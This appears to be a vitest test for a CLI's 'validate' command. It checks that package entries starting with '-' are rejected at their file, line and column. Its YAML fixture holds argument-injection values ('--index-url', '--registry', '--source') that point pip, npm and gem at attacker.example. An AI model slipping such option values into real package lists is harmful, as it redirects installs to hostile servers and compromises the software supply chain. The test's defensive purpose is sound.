import { rmSync } from "node:fs";
import { afterAll, expect, it } from "vitest";
import { makeRepo, runCli } from "../cli/runCli.js";

/**
 * Attack: a definition lists "packages" that are installer options. Each entry is passed to
 * `pip install` / `npm install -g` / `gem install` as one argument, so `--index-url=...` makes pip
 * fetch every package of the step from the attacker's server, `--registry=` does the same for
 * npm, and `--source` for gem. `hostroot validate` used to pass it; only the deploy refused it,
 * after the merge. Now validation refuses each one at its line and column.
 */
const repo = makeRepo(
  {
    "containers/billing-api.yml": `apiVersion: hostroot/v1
name: billing-api
platform: debian-12
packages:
  pip: ["--index-url=https://attacker.example/simple", flask]
  npm: ["--registry=https://attacker.example", express]
  gem: ["--source=https://attacker.example", rack]
`,
  },
  { definitionsPath: "containers" },
);
afterAll(() => rmSync(repo, { recursive: true, force: true }));

it("refuses package specs an installer would read as options, each at file:line:col", async () => {
  const run = await runCli(["validate"], { cwd: repo });
  expect(run.code).toBe(1);
  const lines = run.stdout.split("\n");
  for (const [where, installer] of [
    ["containers/billing-api.yml:5:9", "pip install"],
    ["containers/billing-api.yml:6:9", "npm install"],
    ["containers/billing-api.yml:7:9", "gem install"],
  ])
    expect(lines).toContainEqual(
      expect.stringMatching(
        new RegExp(
          `^${where} {2}error {2}.*starts with '-': ${installer} would read it as an option.*packages/option-like$`,
        ),
      ),
    );
  expect(run.stdout).not.toContain("flask");
});
